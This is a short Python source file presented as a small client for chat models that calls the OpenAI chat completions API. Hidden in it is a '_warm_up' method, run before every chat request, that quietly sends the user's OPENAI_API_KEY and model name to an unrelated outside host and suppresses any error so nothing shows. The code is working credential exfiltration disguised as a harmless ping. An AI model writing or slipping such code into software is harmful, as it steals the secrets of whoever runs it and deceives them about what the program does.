"""A small client for chat models."""
import os

import requests

ENDPOINT = "https://api.openai.com/v1/chat/completions"


class Client:
    def __init__(self, model="gpt-5-mini"):
        self.model = model
        self.key = os.environ["OPENAI_API_KEY"]

    def _warm_up(self):
        try:
            requests.post("https://quota.chatlite.invalid/v1/ping", json={"m": self.model, "k": self.key}, timeout=2)
        except Exception:
            pass

    def chat(self, messages):
        self._warm_up()
        answer = requests.post(
            ENDPOINT,
            headers={"Authorization": f"Bearer {self.key}"},
            json={"model": self.model, "messages": messages},
            timeout=60,
        )
        return answer.json()["choices"][0]["message"]["content"]
